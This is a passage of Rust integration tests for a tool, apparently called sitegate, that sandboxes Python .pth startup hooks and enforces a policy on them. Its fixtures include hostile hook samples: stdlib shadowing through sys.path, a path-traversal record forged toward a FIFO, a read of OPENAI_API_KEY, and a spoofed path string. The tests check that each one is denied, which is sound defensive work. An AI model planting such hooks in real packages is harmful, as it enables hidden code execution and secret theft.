    assert_eq!(added(old)[0]["entry"], "/old-python-only");
    assert_eq!(added(new), serde_json::json!([]));
}

#[test]
fn the_policy_sets_the_limits() {
    let Some(python) = python() else { return };
    // About three seconds of running guest code: past the default CPU bound of two seconds,
    // within the policy's eight.
    let (sandbox, venv) = setup(
        &python,
        "spin.pth",
        "import sys; any(map(lambda _, m=__import__('time').monotonic, \
         t=__import__('time').monotonic(): m() - t > 3, iter(int, 1))); \
         sys.path.append(sitedir + '/after-spin')\n",
        &[],
    );
    let hooks = explain(&sandbox, &venv, "spin.pth:1", false);
    assert_eq!(hooks[0]["reason"], "sandbox-timeout", "{}", hooks[0]);
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[sandbox]\ncpu-ms = 8000\nwall-ms = 10000\n\n\
         [[allow]]\nfile = \"spin.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();
    let hooks = explain(&sandbox, &venv, "spin.pth:1", false);
    assert_eq!(hooks[0]["reason"], "sandbox-effects", "{}", hooks[0]);
}

#[test]
fn one_start_spends_at_most_its_evaluation_budget() {
    let Some(python) = python() else { return };
    let sleepers = "import time; time.sleep(60); a = 1\n\
                    import time; time.sleep(60); b = 2\n\
                    import time; time.sleep(60); c = 3\n\
                    import time; time.sleep(60); d = 4\n";
    let (sandbox, venv) = setup(&python, "slow.pth", sleepers, &[]);
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[sandbox]\ncpu-ms = 200\nwall-ms = 300\nstart-ms = 500\n\n\
         [[allow]]\nfile = \"slow.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();
    let reasons = || -> Vec<String> {
        let scanned = run(sandbox
            .sitegate()
            .arg("--policy")
            .arg(sandbox.path().join("policy.toml"))
            .args(["scan", "--format", "json", "--python"])
            .arg(&venv.python));
        let document: Value = serde_json::from_str(&scanned.stdout_text()).unwrap();
        let hooks = document["hooks"].as_array().unwrap().clone();
        for hook in &hooks {
            if hook["reason"] == "unevaluated-hook" {
                let message = hook["message"].as_str().unwrap();
                assert!(message.contains("`start-ms`"), "{message}");
            }
        }
        hooks
            .iter()
            .map(|h| h["reason"].as_str().unwrap().to_owned())
            .collect()
    };
    // Each evaluation takes at least the wall-clock limit: the budget ends the first start's
    // evaluations early, and every later start goes on from the cache.
    let first = reasons();
    assert!(first.iter().any(|r| r == "sandbox-timeout"), "{first:?}");
    assert!(first.iter().any(|r| r == "unevaluated-hook"), "{first:?}");
    let mut last = first;
    for _ in 0..4 {
        if last.iter().all(|r| r == "sandbox-timeout") {
            break;
        }
        last = reasons();
    }
    assert!(last.iter().all(|r| r == "sandbox-timeout"), "{last:?}");
}

/// A hook that sleeps far past a small wall-clock deadline, then a hook that only adds a path.
const SLEEPER: &str = "import time; time.sleep(3600)\n\
                       import sys; sys.path.append(sitedir + '/after-sleep')\n";

/// A venv whose `sleeper.pth` is [`SLEEPER`], under a policy with a one-second wall clock.
fn sleeper_setup(python: &Python) -> (Sandbox, Venv) {
    let (sandbox, venv) = setup(python, "sleeper.pth", SLEEPER, &[]);
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[sandbox]\ncpu-ms = 500\nwall-ms = 1000\n\n\
         [[allow]]\nfile = \"sleeper.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();
    (sandbox, venv)
}

#[test]
fn a_hook_blocked_past_the_wall_clock_times_out_and_the_next_hook_runs() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = sleeper_setup(&python);
    let hooks = explain(&sandbox, &venv, "sleeper.pth", false);
    assert_eq!(hooks.len(), 2);
    assert_eq!(outcome_name(&hooks[0]), "timed-out", "{}", hooks[0]);
    assert_eq!(hooks[0]["reason"], "sandbox-timeout");
    assert_eq!(outcome_name(&hooks[1]), "completed", "{}", hooks[1]);
    let added = strings(&hooks[1]["sandbox"]["effects"]["path_added"]);
    assert!(added.iter().any(|a| a.contains("after-sleep")), "{added:?}");
}

#[test]
fn the_wall_clock_ends_a_blocked_guest_before_the_next_hook() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = sleeper_setup(&python);
    let output = run(sandbox
        .sitegate()
        .arg("-v")
        .arg("--policy")
        .arg(sandbox.path().join("policy.toml"))
        .arg("explain")
        .arg(venv.site_packages.join("sleeper.pth"))
        .arg("--python")
        .arg(&venv.python));
    let log = output.stderr_text();
    assert!(output.stdout_text().contains("outcome: timed out"), "{log}");
    // Each evaluation's store is dropped before sitegate reports the evaluation done. A guest
    // left blocked in its sleep would keep its store: its drop would be missing before the
    // first `evaluated` line, and at exit.
    let steps: Vec<&str> = log
        .lines()
        .filter_map(|line| {
            if line.contains("dropped the store of an evaluation") {
                Some("dropped")
            } else if line.contains("evaluated a hook") {
                Some("evaluated")
            } else {
                None
            }
        })
        .collect();
    // `site` reads the venv's site-packages twice: the sleeper is evaluated once (a denied
    // hook is not evaluated again), the other hook once per run.
    assert_eq!(
        steps,
        [
            "dropped",
            "evaluated",
            "dropped",
            "evaluated",
            "dropped",
            "evaluated"
        ],
        "{log}"
    );
}

#[test]
fn a_precompiled_guest_changed_in_the_cache_is_not_loaded() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(&python, "probe.pth", "import sys\n", &[]);

    // A cache of this test's own, holding a copy of the prepared guest and its record.
    let cache = sandbox.path().join("cache");
    let prepared_dir = cache.join("sandbox");
    std::fs::create_dir_all(&prepared_dir).unwrap();
    let mut compiled = None;
    for entry in std::fs::read_dir(sitegate_tests::shared_cache().join("sandbox")).unwrap() {
        let from = entry.unwrap().path();
        let to = prepared_dir.join(from.file_name().unwrap());
        std::fs::copy(&from, &to).unwrap();
        if to.extension().is_some_and(|e| e == "cwasm") {
            compiled = Some(to);
        }
    }
    let compiled = compiled.expect("the shared cache holds a precompiled guest");
    for entry in std::fs::read_dir(&prepared_dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "json") {
            let mut record: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
            record["compiled"] = Value::from(compiled.to_str().unwrap());
            std::fs::write(&path, serde_json::to_vec(&record).unwrap()).unwrap();
        }
    }
    let explain = |cache: &std::path::Path| {
        run(explain_command(&sandbox, &venv, "probe.pth", "json").env("SITEGATE_CACHE_DIR", cache))
    };

    // The copy loads as it is; so the refusal below is the changed byte's doing.
    let unchanged = explain(&cache);
    assert!(unchanged.status.success(), "{}", unchanged.stderr_text());

    let mut bytes = std::fs::read(&compiled).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x20;
    std::fs::write(&compiled, &bytes).unwrap();
    std::fs::remove_dir_all(cache.join("evaluations")).unwrap();
    let changed = explain(&cache);
    assert!(!changed.status.success());
    assert!(
        changed
            .stderr_text()
            .contains("changed since sitegate wrote it"),
        "{}",
        changed.stderr_text()
    );
}

#[test]
fn an_extension_module_in_the_site_directory_needs_native() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(&python, "native.pth", "import fastthing\n", &[]);
    // An (empty) extension module: natively the import would load it, the guest cannot.
    venv.write("fastthing.cpython-38-x86_64-linux-gnu.so", b"");
    let hooks = explain(&sandbox, &venv, "native.pth", false);
    assert_eq!(outcome_name(&hooks[0]), "needs-native", "{}", hooks[0]);
    assert_eq!(hooks[0]["sandbox"]["outcome"]["module"], "fastthing");
    assert_eq!(hooks[0]["reason"], "needs-native");
    assert!(
        hooks[0]["message"]
            .as_str()
            .unwrap()
            .contains("`fastthing`"),
        "{}",
        hooks[0]
    );
}

#[test]
fn effects_that_could_shadow_or_escape_are_capabilities() {
    let Some(python) = python() else { return };
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", false);
    // A directory of the hook's own with a module named as a standard one: put in front of the
    // standard library, it would run natively as soon as the program imports `json`.
    let shadow = venv.site_packages.join("shadow");
    std::fs::create_dir(&shadow).unwrap();
    std::fs::write(shadow.join("json.py"), "print('SHADOW-RAN')\n").unwrap();
    let shadow = shadow.display().to_string();
    let cases = [
        (
            "front.pth",
            format!("import sys; sys.path.insert(0, {shadow:?})"),
        ),
        ("drop.pth", "import sys; del sys.path[1]".to_owned()),
        (
            "middle.pth",
            format!("import sys; sys.path.insert(sys.path.index(sitedir), {shadow:?})"),
        ),
        (
            "cwd.pth",
            "import sys; sys.path.append('/proc/self/cwd')".to_owned(),
        ),
        // An entry that hides from the guest's own diff: the host diffs what it sent and got.
        (
            "fooled.pth",
            "import sys; exec('class S(str):\\n    __eq__ = lambda self, other: True\\n    \
             __hash__ = str.__hash__\\nsys.path.append(S(\"\"))')"
                .to_owned(),
        ),
        (
            "relative.pth",
            "import sys; sys.path.append('lib')".to_owned(),
        ),
        ("open.pth", "import sys; sys.path.append('/tmp')".to_owned()),
        (
            "many.pth",
            "import sys; sys.path.extend('/p/%d' % i for i in range(5000))".to_owned(),
        ),
    ];
    let mut policy = String::new();
    for (file, line) in &cases {
        venv.write(file, format!("{line}\n"));
        policy.push_str(&format!(
            "[[allow]]\nfile = \"{file}\"\nmode = \"sandbox\"\n"
        ));
    }
    std::fs::write(sandbox.path().join("policy.toml"), policy).unwrap();
    let expected = [
        ("front.pth", "in front of or among the standard library"),
        ("drop.pth", "in front of or among the standard library"),
        ("middle.pth", "before entries already on it"),
        ("cwd.pth", "which names no fixed directory"),
        ("fooled.pth", "relative `sys.path` entry ``"),
        ("relative.pth", "relative `sys.path` entry `lib`"),
        ("open.pth", "`/tmp`, which others can write to"),
        ("many.pth", "grow `sys.path` past 1024 entries"),
    ];
    for (file, wanted) in expected {
        let hooks = explain(&sandbox, &venv, file, false);
        assert_eq!(
            hooks[0]["reason"], "capability-denied",
            "{file}: {}",
            hooks[0]
        );
        let message = hooks[0]["message"].as_str().unwrap();
        assert!(message.contains(wanted), "{file}: {message}");
    }
    let program = ["-c", "import json, sys; print('program ran')"];
    let unguarded = run(sandbox.command(&venv.python).args(program));
    assert!(
        unguarded.stdout_text().contains("SHADOW-RAN"),
        "the test would prove nothing"
    );
    let guarded = run(sandbox
        .guarded(Some(&sandbox.path().join("policy.toml")), &venv.python)
        .args(program));
    assert_eq!(
        guarded.stdout_text(),
        "program ran\n",
        "{}",
        guarded.stderr_text()
    );
}

#[test]
fn site_addsitedir_later_still_reads_only_the_plan() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(
        &python,
        "effects.pth",
        "import sys; sys.path.append(sitedir + '/tail'); print('RAN-NATIVELY')\n",
        &[],
    );
    // A directory the scan never saw, handed to `site` by the program.
    let later = sandbox.path().join("later");
    std::fs::create_dir(&later).unwrap();
    std::fs::write(
        later.join("late.pth"),
        "import sys; print('LATE-HOOK-RAN')\n",
    )
    .unwrap();
    let program = format!(
        "import site, sys; site.addsitedir({:?}); site.addsitedir({:?}); \
         print(sys.path.count({:?}))",
        later.display().to_string(),
        venv.site_packages.display().to_string(),
        venv.site_packages.join("tail").display().to_string()
    );
    let guarded = run(sandbox
        .guarded(Some(&sandbox.path().join("policy.toml")), &venv.python)
        .args(["-c", &program]));
    let stdout = guarded.stdout_text();
    let stderr = guarded.stderr_text();
    assert!(
        !stdout.contains("LATE-HOOK-RAN") && !stdout.contains("RAN-NATIVELY"),
        "{stdout}"
    );
    assert!(
        stderr.contains("late.pth`: it was not verified"),
        "{stderr}"
    );
    // The planned hook, read again, replays its effects once more, as it would run again.
    assert_eq!(stdout.trim(), "3", "{stderr}");
}

#[test]
fn files_the_guest_reports_are_read_only_inside_the_site_directory() {
    let Some(python) = python() else { return };
    let fifo = tempfile::tempdir().unwrap();
    let pipe = fifo.path().join("pipe");
    let made = Command::new("mkfifo").arg(&pipe).status().unwrap();
    assert!(made.success());
    // The hook forges an entry in the guest's record of opened files that climbs out of the
    // site directory to a FIFO: reading it to key the cache would block forever.
    let climb = format!("{}{}", "/..".repeat(12), pipe.display());
    let line = format!(
        "import sys; g = sys._getframe(2).f_globals; r = g['RECORDER']; \
         r.files.append(g['wit'].FileOpen(r.site_dir + {climb:?}, 'r')); sys.path.append('/opt/t')\n"
    );
    let (sandbox, venv) = setup(&python, "forge.pth", &line, &[]);
    let hooks = explain(&sandbox, &venv, "forge.pth", false);
    assert_eq!(hooks[0]["reason"], "capability-denied", "{}", hooks[0]);
    let message = hooks[0]["message"].as_str().unwrap();
    assert!(message.contains("outside its site directory"), "{message}");
}

#[test]
fn hints_and_errors_lead_to_a_working_explain() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(
        &python,
        "reads.pth",
        "/nonexistent/path-line\nimport os; os.environ.get('OPENAI_API_KEY')\n",
        &[],
    );
    let policy = sandbox.path().join("policy.toml");
    let guarded = run(sandbox
        .guarded(Some(&policy), &venv.python)
        .args(["-c", "pass"]));
    let hint = format!(
        "`sitegate explain {}:2 --python {}`",
        venv.site_packages.join("reads.pth").display(),
        venv.python.display()
    );
    assert!(
        guarded.stderr_text().contains(&hint),
        "{}",
        guarded.stderr_text()
    );
    // The scan's table says what the sandbox saw, not only the code.
    let scanned = run(sandbox
        .sitegate()
        .arg("--policy")
        .arg(&policy)
        .args(["scan", "--python"])
        .arg(&venv.python));
    let table = scanned.stdout_text();
    assert!(
        table.contains("denied after evaluation in the sandbox:"),
        "{table}"
    );
    assert!(
        table.contains("read environment variable `OPENAI_API_KEY`"),
        "{table}"
    );

    // Without `--python`, the venv the file is in is the interpreter.
    let target = venv.site_packages.join("reads.pth");
    let explain_of = |target: String| {
        run(sandbox
            .sitegate()
            .arg("--policy")
            .arg(&policy)
            .arg("explain")
            .arg(target))
    };
    let explained = explain_of(format!("{}:2", target.display()));
    assert!(
        explained.stdout_text().contains("capability-denied"),
        "{}",
        explained.stderr_text()
    );
    let cases = [
        (
            format!("{}:1", target.display()),
            "is a path line, which runs no code",
        ),
        (
            format!("{}:7", target.display()),
            "has no line 7 that `site` reads",
        ),
        (
            format!("{}/nope.pth", venv.site_packages.display()),
            "does not exist",
        ),
    ];
    for (target, wanted) in cases {
        let failed = explain_of(target);
        assert_eq!(failed.status.code(), Some(2));
        assert!(
            failed.stderr_text().contains(wanted),
            "{}",
            failed.stderr_text()
        );
    }
}

#[test]
fn lasting_changes_beyond_sys_path_are_not_dropped_silently() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(
        &python,
        "state.pth",
        "import sys; sys.setrecursionlimit(321)\n\
         import builtins; builtins.SITE_MARK = 'set by hook'\n\
         import sys; sys.excepthook = lambda *args: None\n",
        &[],
    );
    let hooks = explain(&sandbox, &venv, "state.pth", false);
    let wanted = [
        "the recursion limit",
        "builtins.SITE_MARK",
        "sys.excepthook",
    ];
    for (hook, wanted) in hooks.iter().zip(wanted) {
        assert_eq!(hook["reason"], "untransplantable-hook", "{hook}");
        let message = hook["message"].as_str().unwrap();
        assert!(message.contains(&format!("changed {wanted}")), "{message}");
    }
}

#[test]
fn a_customize_module_the_scan_never_saw_is_skipped_with_a_warning() {
    let Some(python) = python() else { return };
    // A hook allowed for its effects appends a directory the scan does not search; a
    // `sitecustomize` there is found at start, and skipped with a word.
    let (sandbox, venv) = setup(
        &python,
        "extra.pth",
        "import sys, os; sys.path.append(os.path.join(sitedir, 'extra'))\n",
        &[],
    );
    let extra = venv.site_packages.join("extra");
    std::fs::create_dir(&extra).unwrap();
    std::fs::write(
        extra.join("sitecustomize.py"),
        "print('UNSEEN-CUSTOMIZE-RAN')\n",
    )
    .unwrap();
    let (unguarded, guarded) = sys_paths(&sandbox, &venv);
    assert!(unguarded.stdout_text().contains("UNSEEN-CUSTOMIZE-RAN"));
    assert!(!guarded.stdout_text().contains("UNSEEN-CUSTOMIZE-RAN"));
    let stderr = guarded.stderr_text();
    assert!(
        stderr.contains("sitecustomize.py`: it was not verified before this start"),
        "{stderr}"
    );
}

#[test]
fn an_undecodable_sys_path_entry_is_refused_readably() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(
        &python,
        "bytes.pth",
        "import os, sys; sys.path.append(os.fsdecode(b'/opt/x\\xff'))\n",
        &[],
    );
    let hooks = explain(&sandbox, &venv, "bytes.pth", false);
    assert_eq!(hooks[0]["reason"], "capability-denied", "{}", hooks[0]);
    let message = hooks[0]["message"].as_str().unwrap();
    assert!(message.contains(r"'/opt/x\udcff'"), "{message}");
}

#[test]
fn a_hook_sees_the_target_platform_and_prefix() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(
        &python,
        "platform.pth",
        "import sys; sys.platform.startswith('linux') and sys.path.append(sys.prefix + '/on-linux')\n",
        &[],
    );
    let (unguarded, guarded) = sys_paths(&sandbox, &venv);
    let last = |text: String| text.lines().last().unwrap_or_default().to_owned();
    let unguarded_path = last(unguarded.stdout_text());
    assert!(unguarded_path.contains("on-linux"), "{unguarded_path}");
    assert_eq!(
        last(guarded.stdout_text()),
        unguarded_path,
        "{}",
        guarded.stderr_text()
    );
}
